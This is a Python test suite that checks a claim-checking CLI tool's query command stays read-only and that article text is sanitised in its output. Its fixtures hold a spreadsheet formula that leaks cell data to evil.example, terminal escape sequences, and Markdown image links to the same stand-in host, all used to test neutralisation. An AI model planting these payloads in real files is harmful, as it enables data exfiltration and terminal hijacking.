"""Security: `query` only reads claimcheck databases; article text cannot drive the terminal or a spreadsheet."""

import hashlib
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests.conftest import Claimcheck
from tests.test_reliability import one_error_line, write_article

FOREVER = "with recursive c(x) as (select 1 union all select x + 1 from c) select count(*) from c"


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def ingested(claimcheck, tmp_path):
    write_article(tmp_path / "a", "a.txt", "Ledger", "Ohio", 61)
    write_article(tmp_path / "a", "b.txt", "Wire", "Ohio", 58)
    assert claimcheck("ingest", tmp_path / "a").exit_code == 0
    return claimcheck


# --- item 7: query is read-only at the file level ---------------------------------------------------------------------


def test_query_refuses_a_sqlite_file_that_is_not_claimcheck_and_leaves_it_untouched(
    claimcheck, tmp_path
):
    other = tmp_path / "other.db"
    conn = sqlite3.connect(other)
    conn.execute("create table notes (body text)")
    conn.execute("insert into notes values ('hello')")
    conn.commit()
    conn.close()
    before = digest(other)
    result = Claimcheck(other)("query", "select * from notes")
    one_error_line(result, "not a claimcheck database")
    assert digest(other) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["other.db"]


def test_query_never_writes_the_database_file(ingested):
    db = Path(ingested.db)
    before = digest(db)
    for sql in [
        "pragma journal_mode=delete",
        "pragma user_version=7",
        "pragma query_only=0",
        "vacuum into 'copy.db'",
        f"attach database 'file:{db.parent / 'new.db'}?mode=rwc' as n",
        "delete from claims",
        "create table t (x)",
        "insert into sources (name) values ('x')",
    ]:
        result = ingested("query", sql)
        one_error_line(result, "read-only")
    assert digest(db) == before
    assert not (db.parent / "new.db").exists() and not Path("copy.db").exists()
    assert json.loads(ingested("query", "pragma table_info(claims)", "--json").output)


def test_query_does_not_migrate_an_older_database(ingested):
    conn = sqlite3.connect(ingested.db)
    conn.execute(
        "delete from _sqlite_migrations where id = (select max(id) from _sqlite_migrations)"
    )
    conn.commit()
    conn.close()
    before = digest(Path(ingested.db))
    result = ingested("query", "select count(*) as n from _sqlite_migrations", "--csv")
    assert result.exit_code == 0, result.output
    assert digest(Path(ingested.db)) == before


def test_query_timeout_stops_a_long_statement(ingested):
    started = time.monotonic()
    result = ingested("query", FOREVER, "--timeout", "0.5")
    one_error_line(result, "--timeout")
    assert time.monotonic() - started < 10


def test_ctrl_c_interrupts_a_running_query(ingested):
    env = {**os.environ, "CLAIMCHECK_DB": ingested.db}
    process = subprocess.Popen(
        [sys.executable, "-m", "claimcheck", "query", FOREVER, "--timeout", "300"],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    time.sleep(3)
    assert process.poll() is None
    sent = time.monotonic()
    process.send_signal(signal.SIGINT)
    process.communicate(timeout=20)
    assert time.monotonic() - sent < 5
    assert process.returncode != 0


def test_query_rows_stream_in_every_format(ingested):
    sql = (
        "with recursive s(n) as (select 1 union all select n + 1 from s where n < 2500) "
        "select n, 'x' || n as label, null as empty from s"
    )
    as_json = json.loads(ingested("query", sql, "--json").output)
    assert len(as_json) == 2500 and as_json[0] == {"n": 1, "label": "x1", "empty": None}
    assert [
        json.loads(line) for line in ingested("query", sql, "--nl").output.splitlines()
    ] == as_json
    lines = ingested("query", sql, "--csv").output.splitlines()
    assert (
        lines[0] == "n,label,empty"
        and len(lines) == 2501
        and lines[-1] == "2500,x2500,"
    )
    table = ingested("query", sql).output.splitlines()
    assert table[0].split() == ["n", "label", "empty"] and len(table) == 2502
    assert ingested("query", "select 1 as a where 0", "--csv").output == "a\n"
    assert ingested("query", "select 1 as a where 0", "--json").output == "[]\n"


# --- item 8: article text cannot drive the terminal, a Markdown renderer or a spreadsheet --------------------------

HOSTILE_A = """---
source: =HYPERLINK("http://evil.example/?leak="&A1)
published: 2025-08-16
---
Turnout in Ohio was 61 percent \x1b[2J\x1b]0;owned\x07on Tuesday, said [the office](http://evil.example) and @octocat.
The minister attended the summit in Geneva ![x](http://evil.example/p.png) \x9b31m today.
"""
HOSTILE_B = """---
source: Capital Wire
published: 2025-08-17
---
Turnout in Ohio was 58 percent on Tuesday, said [the office](http://evil.example) and @octocat.
The minister did not attend the summit in Geneva ![x](http://evil.example/p.png) today.
"""


@pytest.fixture
def hostile(claimcheck, tmp_path):
    folder = tmp_path / "hostile"
    folder.mkdir()
    (folder / "a.txt").write_text(HOSTILE_A, encoding="utf-8")
    (folder / "b.txt").write_text(HOSTILE_B, encoding="utf-8")
    assert claimcheck("ingest", folder).exit_code == 0
    return claimcheck


def assert_no_controls(text: str):
    assert not any(ch in text for ch in "\x1b\x07\x9b\r"), repr(text)


def test_terminal_escapes_never_reach_the_output(hostile, tmp_path):
    stored = "".join(
        row["text"] for row in json.loads(hostile("claims", "--json").output)
    )
    assert (
        "\\u009b" in hostile("claims", "--json").output or "\x1b" not in stored
    )  # escaped in JSON
    for args in (
        ["check", "--no-nli"],
        ["check", "--no-nli", "--format", "markdown"],
        ["check", "--no-nli", "--format", "github"],
        ["claims"],
        ["findings"],
        ["claims", "--csv"],
        ["claims", "--json"],
        ["findings", "--nl"],
        ["check", "--no-nli", "--format", "json"],
        ["check", "--no-nli", "--format", "sarif"],
        ["check", "--no-nli", "--format", "junit"],
    ):
        result = hostile(*args)
        assert result.exit_code in (0, 1), result.output
        assert (
            "61 percent" in result.output
            or "Turnout" in result.output
            or args[0] == "findings"
        )
        assert_no_controls(result.output)
    for fmt in ("text", "markdown", "json"):
        report = tmp_path / f"report.{fmt}"
        hostile("check", "--no-nli", "--format", fmt, "--output", report)
        assert_no_controls(report.read_text(encoding="utf-8"))


def test_markdown_report_makes_no_links_images_or_mentions_from_article_text(hostile):
    report = hostile("check", "--no-nli", "--format", "markdown").output
    rows = [
        line for line in report.splitlines() if "Turnout" in line or "minister" in line
    ]
    assert rows
    for row in rows:
        assert "](" not in row.replace("\\](", "")  # no [text](url) or ![alt](url)
        assert "@octocat" not in row
    assert "\\[the office\\]\\(http" in report and "@\u2060octocat" in report


def test_csv_cells_that_spreadsheets_would_run_are_guarded_unless_asked(hostile):
    import csv
    import io

    rows = list(csv.DictReader(io.StringIO(hostile("sources", "--csv").output)))
    assert {row["source"] for row in rows} == {
        "Capital Wire",
        '\'=HYPERLINK("http://evil.example/?leak="&A1)',
    }
    raw = list(
        csv.DictReader(io.StringIO(hostile("sources", "--csv", "--csv-raw").output))
    )
    assert '=HYPERLINK("http://evil.example/?leak="&A1)' in {
        row["source"] for row in raw
    }
    numbers = list(
        csv.DictReader(
            io.StringIO(hostile("query", "select -5 as n, '-x' as t", "--csv").output)
        )
    )
    assert numbers == [{"n": "-5", "t": "'-x"}]
